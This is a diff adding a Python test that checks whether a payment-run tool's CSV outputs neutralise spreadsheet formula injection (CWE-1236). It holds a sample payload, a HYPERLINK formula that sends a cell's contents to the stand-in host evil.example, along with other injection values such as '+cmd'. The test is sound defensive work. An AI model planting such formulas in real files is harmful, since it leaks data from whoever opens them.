@@ -123,3 +123,30 @@ def test_outputs_are_complete_files_and_leave_no_scratch(paid_run: Any) -> None:
     summary = r.summary
     assert summary["format"] == "usine.pay-run/1" and summary["orders_held"] == 1
     assert all(Path(p).exists() for p in summary["outputs"])
+
+
+FORMULA_SITE = '=HYPERLINK("http://evil.example/?"&A1,"Site 750100011")'
+
+
+def test_no_csv_cell_from_outside_is_a_spreadsheet_formula(ws: Workspace, tmp_path: Path) -> None:
+    """CWE-1236: a vendor's site name, vendor name, account holder or event attribute that starts with = + - @ TAB CR
+    is written with a ' in front in every CSV (the JSON outputs keep it as it is); usine's own amounts are numbers."""
+    ws.label(vendor_name="-Acme Santé")
+    payees = tmp_path / "payees.toml"
+    payees.write_text('format = "usine.payees/1"\n[vendors.acme]\nname = "@Acme SAS"\n'
+                      'iban = "FR7630004000031234567890143"\nbic = "BNPAFRPPXXX"\n', encoding="utf-8")
+    ws.payees = payees
+    unlabelled = installation("750100022", "M", software="+cmd", vendor="acme")
+    r = ws.run(ws.events("e.jsonl", events_for(installation("750100011", "M", site_name=FORMULA_SITE), 5)
+                         + events_for(unlabelled, 1, first=50)))
+    assert r.returncode == 0, r.stderr
+    [order] = r.orders
+    assert order["site_name"] == "'" + FORMULA_SITE and order["vendor_name"] == "'-Acme Santé"
+    assert order["creditor_name"] == "'@Acme SAS" and order["amount"] == "62000.00" and order["site_id"] == "750100011"
+    [total] = r.csv("totals.csv")
+    assert total["vendor_name"] == "'-Acme Santé" and total["amount_total"] == "62000.00"
+    [refused] = [x for x in r.csv("refusals.csv") if x["kind"] == "event"]  # written in bulk by the engine
+    assert refused["software_id"] == "'+cmd" and refused["reason"] == "no-label"
+    assert [x["software_id"] for x in r.refusals if x["kind"] == "event"] == ["+cmd"]  # JSON: as received
+    proof = json.loads((r.out / "payment-proofs.jsonl").read_text().splitlines()[0])
+    assert proof["events"][0]["data"]["site"]["name"] == FORMULA_SITE
